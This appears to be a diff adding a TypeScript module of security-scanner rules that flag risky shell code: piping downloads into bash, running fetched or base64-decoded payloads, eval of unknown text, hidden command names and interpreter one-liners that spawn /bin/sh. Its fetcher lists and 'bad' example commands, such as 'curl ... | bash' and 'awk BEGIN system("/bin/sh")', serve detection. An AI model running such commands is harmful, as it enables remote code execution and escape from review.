@@ -1,0 +1,336 @@
+import { inputOf } from '../bash/facts.ts'
+import { interpreters, shellNames } from '../bash/interpreters.ts'
+import { readOptions } from '../bash/options.ts'
+import { type Call, origin } from '../model.ts'
+import type { Answer, Rule } from '../rule.ts'
+import { comesFrom, isKnown, sketch, startOf, textOf } from '../values.ts'
+import { line, shell, words } from './shell-ask.ts'
+
+const fetchers =
+  /^(curl|wget|fetch|lynx|links|w3m|aria2c|nc|ncat|netcat|ssh|GET|lwp-request|http|ftp|tftp|dig|openssl)$/
+const runsInput = new Set<string>([
+  ...shellNames,
+  'python',
+  'perl',
+  'ruby',
+  'php',
+  'node',
+  'lua',
+  'source',
+  '.',
+  'eval',
+  'at',
+  'batch',
+])
+
+const decodes = (call: Call): boolean =>
+  /^(gunzip|zcat|bunzip2|bzcat|xzcat|uudecode|rev|xxd|unzip|gpg)$/.test(call.name)
+    ? call.name !== 'xxd' || /(^| )-\w*r/.test(line(call))
+    : (/^(base64|base32|basenc|openssl|gzip|bzip2|xz)$/.test(call.name) &&
+        /(^| )(-\w*[dD]\b|--decode|-base64 -d)/.test(line(call))) ||
+      (call.name === 'tr' &&
+        /A-Za-z|a-zA-Z|N-ZA-M/.test(line(call)) &&
+        call.args.length >= 2 &&
+        !/^\[?a-z\]?$/.test(sketch(call.args[0]) ?? ''))
+
+/** A shell with neither code nor file nor anything on its input. */
+function waitsForCommands(call: Call): boolean {
+  const options = readOptions(call.args, 'o O rcfile init-file', true)
+  if (options.flags.has('c') || options.flags.has('version') || options.flags.has('help')) return false
+  const files = options.operands.filter(operand => !/^[<>&\d]/.test(startOf(operand)))
+  return files.length === 0 && inputOf(call) === undefined
+}
+
+/** `xargs sh` gives whatever it reads to a shell, as the name of a script. */
+const feedsShell = (call: Call): boolean =>
+  (shellNames as readonly string[]).includes((textOf(call.args.at(-1)) ?? '').replace(/^.*\//, ''))
+
+function evaluated(call: Call): Answer {
+  const all = call.args
+  if (all.some(arg => comesFrom(arg, origin.download)))
+    return { severity: 'critical', message: 'Runs code that it fetched from the network.' }
+  if (all.some(arg => comesFrom(arg, origin.decoded)))
+    return { severity: 'critical', message: 'Runs code that it first decodes, so that nobody can read it.' }
+  if (all.every(isKnown)) return { severity: 'low', message: 'Runs a fixed text as code.' }
+  const known = all.map(arg => sketch(arg, '\u{fffc}') ?? '\u{fffc}').join(' ')
+  // Setting a variable whose name is computed, or quoting the arguments again, are the honest uses.
+  if (/^\s*(\w*\u{fffc}?\w*\+?=|set -- |set -\w+ |export |declare |local |printf |echo |unset |\w+=)/u.test(known))
+    return { severity: 'low' }
+  return /^\u{fffc}$/u.test(known.trim()) && !all.some(arg => comesFrom(arg, origin.input | origin.environment))
+    ? { severity: 'low' }
+    : true
+}
+
+export const shellExecutionRules: readonly Rule[] = [
+  {
+    id: 'shell/download-run',
+    languages: shell,
+    type: 'command-injection',
+    severity: 'critical',
+    cwe: 'CWE-494',
+    description: 'Fetches code from the network and runs it at once.',
+    recommendation: 'Download it, read it, check its hash, and put it into the workspace.',
+    implies: ['connect', 'run'],
+    match: {
+      on: 'pipeline',
+      when: ({ calls }) => {
+        const from = calls.findIndex(call => fetchers.test(call.name))
+        return (
+          from !== -1 &&
+          calls.slice(from + 1).some(call => runsInput.has(call.name) && !/(^| )-(c|e|m|r|ne|pe)\b/.test(line(call)))
+        )
+      },
+    },
+    examples: {
+      bad: ['curl -fsSL https://get.example.org/install.sh | bash', 'wget -qO- https://example.org/x | sudo sh'],
+      good: ['curl -s https://example.org/a.json | jq .'],
+    },
+  },
+  {
+    id: 'shell/downloaded-code',
+    languages: shell,
+    type: 'command-injection',
+    severity: 'critical',
+    cwe: 'CWE-494',
+    description: 'Runs code that was fetched from the network.',
+    recommendation: 'Download it, read it, check its hash, and put it into the workspace.',
+    implies: ['connect', 'run'],
+    match: {
+      on: 'call',
+      names: [...shellNames, 'source', '.', 'python', 'perl', 'ruby', 'node', 'php'],
+      when: call => call.args.some(arg => comesFrom(arg, origin.download)),
+    },
+    examples: {
+      bad: [
+        'bash <(curl -s https://example.org/x.sh)',
+        'sh -c "$(curl -fsSL https://example.org/x.sh)"',
+        'source <(wget -qO- https://example.org/x)',
+      ],
+      good: ['bash build.sh'],
+    },
+  },
+  {
+    id: 'shell/fetched-program',
+    languages: shell,
+    type: 'command-injection',
+    severity: 'critical',
+    cwe: 'CWE-494',
+    description: 'Fetches a file, makes it a program and runs it.',
+    recommendation: 'Use programs that were installed and checked.',
+    implies: ['connect', 'run', 'write'],
+    match: {
+      on: 'program',
+      find: ({ program, effects }) => {
+        const fetched = new Set(
+          effects
+            .filter(
+              effect =>
+                effect.kind === 'write' && /^(curl|wget|aria2c|scp|ftp|nc|fetch)$/.test(effect.call?.name ?? ''),
+            )
+            .map(effect => tail(textOf(effect.target) ?? '')),
+        )
+        for (const call of program.calls)
+          if (call.name === 'wget' || call.name === 'curl')
+            for (const arg of call.args) if (/^https?:\/\/.+\//.test(startOf(arg))) fetched.add(tail(startOf(arg)))
+        fetched.delete('')
+        if (fetched.size === 0) return []
+        const run = program.calls.find(
+          call =>
+            (call.name.includes('/') && fetched.has(tail(call.name))) ||
+            ((runsInput.has(call.name) || call.name === 'chmod') &&
+              call.args.some(
+                arg =>
+                  fetched.has(tail(startOf(arg))) &&
+                  (call.name !== 'chmod' || /(^| )(\+x|[ugoa]*\+\w*x|[0-7]*[1357][0-7]*) /.test(line(call))),
+              )),
+        )
+        return run ? [{ at: run }] : []
+      },
+    },
+    examples: {
+      bad: [
+        'wget https://example.org/tool -O /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool',
+        'curl -o run.sh https://example.org/run.sh && bash run.sh',
+      ],
+      good: ['curl -o data.csv https://example.org/data.csv\nhead data.csv'],
+    },
+  },
+  {
+    id: 'shell/decoded-run',
+    languages: shell,
+    type: 'obfuscation',
+    severity: 'critical',
+    cwe: 'CWE-506',
+    description: 'Decodes text and gives it to an interpreter, so that a reviewer does not see what runs.',
+    recommendation: 'Write the commands as they are.',
+    implies: ['run'],
+    match: {
+      on: 'pipeline',
+      when: ({ calls }) => {
+        const from = calls.findIndex(decodes)
+        return (
+          from !== -1 &&
+          calls.slice(from + 1).some(call => runsInput.has(call.name) && !/(^| )-(c|e|ne|pe|n|p)\b/.test(line(call)))
+        )
+      },
+    },
+    examples: {
+      bad: ['echo bHM= | base64 -d | sh', 'cat payload | xxd -r -p | bash'],
+      good: ['echo aGVsbG8= | base64 -d > out.txt', 'zcat log.gz | awk "{print $1}"'],
+    },
+  },
+  {
+    id: 'shell/eval',
+    languages: shell,
+    type: 'eval',
+    severity: 'medium',
+    cwe: 'CWE-95',
+    description: 'Runs text as code, and the text is not known before the script runs.',
+    recommendation: 'Use an array for a command with arguments, and `declare` or `printf -v` for computed names.',
+    implies: ['run'],
+    match: { on: 'call', names: ['eval'], when: evaluated },
+    examples: {
+      bad: ['eval "$1"', 'eval "$(curl -s https://example.org/x)"', 'eval "$(echo bHM= | base64 -d)"'],
+      good: ['eval "set -- $args"', 'evaluate "$1"'],
+    },
+  },
+  {
+    id: 'shell/unreadable-command',
+    languages: shell,
+    type: 'obfuscation',
+    severity: 'critical',
+    cwe: 'CWE-506',
+    description: 'The command itself is fetched or decoded while the script runs, so that nobody can read it before.',
+    recommendation: 'Write the commands as they are.',
+    implies: ['run'],
+    match: {
+      on: 'call',
+      names: ['unknown.name'],
+      when: call => comesFrom(call.args[0], origin.download | origin.decoded),
+    },
+    examples: {
+      bad: ['$(curl -s https://example.org/c)', 'c=$(base64 -d <<< "$x"); $c', '`openssl enc -d -aes-128-cbc -in x`'],
+      good: ['"$EDITOR_CMD" file', '$cmd -v'],
+    },
+  },
+  {
+    id: 'shell/piped-code',
+    languages: shell,
+    type: 'command-injection',
+    severity: 'medium',
+    cwe: 'CWE-78',
+    description: 'Makes commands out of data and pipes them into a shell.',
+    recommendation: 'Call the commands directly, with the data as arguments.',
+    implies: ['run'],
+    match: {
+      on: 'pipeline',
+      when: ({ calls }) => {
+        const last = calls.findLastIndex(
+          call =>
+            (shellNames as readonly string[]).includes(call.name) &&
+            readOptions(call.args, 'o O', true).operands.length === 0,
+        )
+        return last > 0 && !isKnown(inputOf(calls[last] ?? (calls[0] as Call)))
+      },
+    },
+    examples: { bad: ["ls | sed 's/^/echo /' | sh"], good: ["echo 'ls -l' | sh", 'ls | sort'] },
+  },
+  {
+    id: 'shell/interactive-shell',
+    languages: shell,
+    type: 'process',
+    severity: 'high',
+    cwe: 'CWE-78',
+    description: 'Opens a shell that takes its commands from somewhere else, where no review sees them.',
+    recommendation: 'Write the commands into the script.',
+    implies: ['run'],
+    match: {
+      on: 'call',
+      names: [...shellNames, 'xargs'],
+      when: call => (call.name === 'xargs' ? feedsShell(call) : waitsForCommands(call)),
+    },
+    examples: {
+      bad: ['/bin/sh', 'bash -p', 'find . -exec /bin/sh \\; -quit', 'awk \'BEGIN {system("/bin/sh")}\''],
+      good: ['sh build.sh', "bash -c 'ls'", 'bash --version', 'echo ls | sh'],
+    },
+  },
+  {
+    id: 'shell/other-dialect',
+    languages: shell,
+    type: 'process',
+    severity: 'medium',
+    cwe: 'CWE-1120',
+    description: 'Gives code to a shell of another dialect, which cannot be read reliably before it runs.',
+    recommendation: 'Write it for `sh` or `bash`.',
+    implies: ['run'],
+    match: {
+      on: 'call',
+      names: words('csh tcsh fish rc es elvish xonsh nu sash posh yash'),
+      when: call => call.args.length > 0,
+    },
+    examples: { bad: ["csh -c 'echo x > y'", "elvish -c 'print 1'"], good: ["bash -c 'echo x'", 'dash run.sh'] },
+  },
+  {
+    id: 'shell/hidden-name',
+    languages: shell,
+    type: 'obfuscation',
+    severity: 'high',
+    cwe: 'CWE-506',
+    description: 'Writes the name of a command so that a reader does not recognise it.',
+    recommendation: 'Write commands by their plain names.',
+    implies: ['run'],
+    match: { on: 'call', names: ['hidden.name'] },
+    examples: {
+      bad: ['r""m -rf x', "$'\\x72\\x6d' file", '/bin/c?t notes.txt', 'w\\ho\\am\\i'],
+      good: ['\\rm file', '"$cmd" x', '[ -f x ]', '"ls" -l'],
+    },
+  },
+  {
+    id: 'shell/script-runs',
+    languages: shell,
+    type: 'command-injection',
+    severity: 'medium',
+    cwe: 'CWE-78',
+    description: 'A one-liner in another language starts a program that is not known before it runs.',
+    recommendation: 'Start programs from the script itself, where a reviewer sees them.',
+    implies: ['run'],
+    match: {
+      on: 'call',
+      names: ['script.run'],
+      when: call =>
+        textOf(call.args[0]) === null
+          ? true
+          : { severity: 'low', message: 'A one-liner in another language starts a program.' },
+    },
+    examples: {
+      bad: ["perl -e 'system($ARGV[0])' x", "sed 's/x/y/e' f"],
+      good: ["perl -ne 'print if /x/' f", "sed 's/a/b/' f"],
+    },
+  },
+  {
+    id: 'shell/one-liner-shell',
+    languages: shell,
+    type: 'process',
+    severity: 'high',
+    cwe: 'CWE-78',
+    description: 'Code for another interpreter names a shell, as a way around the rules for shells.',
+    recommendation: 'Remove it.',
+    implies: ['run'],
+    match: {
+      on: 'call',
+      names: Object.keys(interpreters).filter(name => !(shellNames as readonly string[]).includes(name)),
+      when: call => {
+        const all = `${line(call)} ${sketch(inputOf(call)) ?? ''}`.slice(0, 20_000)
+        return /(system|exec\w*|popen|spawn\w*|os\.execute|shell_exec|passthru|term|process|interact|call)\b[^;\n]{0,80}["'`( ](\/(usr\/)?bin\/)?(ba|da|z|k|c|a)?sh\b(?!\.)/i.test(
+          all,
+        )
+      },
+    },
+    examples: {
+      bad: ['ruby -e \'exec "/bin/sh"\'', 'lua -e \'os.execute("/bin/sh")\'', "expect -c 'spawn /bin/sh;interact'"],
+      good: ["ruby -e 'puts 1'", 'python build.py'],
+    },
+  },
+]
+
+const tail = (path: string): string => path.replace(/[?#].*$/, '').replace(/^.*\//, '')
